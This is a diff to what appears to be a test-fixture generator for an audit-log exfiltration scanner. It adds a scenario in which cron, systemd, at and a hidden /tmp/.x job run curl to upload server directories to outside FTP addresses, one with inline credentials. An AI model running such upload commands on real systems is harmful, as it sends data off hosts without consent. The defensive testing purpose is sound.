@@ -159,6 +159,28 @@ def old_image():
             "image/var/log/audit/audit.log": story.text()}
 
 
+def registered():
+    """An image: a line of a crontab, a unit with a timer, an at job, a job that stands nowhere."""
+    story = scp_job()
+    password = "-u me:Sw0rdfish"
+    shell = story.cron_job(f"curl {password} -T /srv/dump ftp://203.0.113.20/up/", pid=710)
+    shell.fork(712).exec("/usr/bin/curl", "curl", *password.split(), "-T", "/srv/dump",
+                         "ftp://203.0.113.20/up/").upload(5, "203.0.113.20", 21, 150_000_000)
+    push = story.process(1, 0, "/usr/lib/systemd/systemd").fork(720, uid=33).exec(
+        "/usr/bin/dash", "/bin/sh", "/opt/push.sh", "night")
+    push.fork(721).exec("/usr/bin/curl", "curl", "-T", "/srv/www", "ftp://203.0.113.21/").upload(
+        5, "203.0.113.21", 21, 160_000_000)
+    atd = story.process(305, 1, "/usr/sbin/atd")
+    atd.fork(730, auid=0, ses=4).exec("/usr/bin/dash", "sh").fork(731).exec(
+        "/usr/bin/curl", "curl", "-T", "/srv/db", "ftp://203.0.113.22/").upload(
+            5, "203.0.113.22", 21, 170_000_000)
+    story.cron_job("/tmp/.x", pid=740).fork(742).exec(
+        "/usr/bin/curl", "curl", "-T", "/srv/x", "ftp://203.0.113.23/").upload(
+            5, "203.0.113.23", 21, 180_000_000)
+    story.chatter()
+    return {"image/var/log/audit/audit.log": story.text()}
+
+
 def without(story, call):
     """The log of a host whose rules do not ask for that call."""
     stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines
@@ -365,7 +387,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
         "scan-no-addresses": no_addresses, "scan-copies": pieces_and_copies,
         "scan-names": names_in_hex, "scan-certainty": many_small_and_one_large,
-        "scan-image": old_image,
+        "scan-image": old_image, "scan-image-jobs": registered,
         "coverage-jobs": no_rules_at_all, "coverage-jobs-jsonl": no_rules_at_all,
         "scan-no-bytes": many_jobs_without_bytes, "scan-no-bytes-all": many_jobs_without_bytes,
         "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
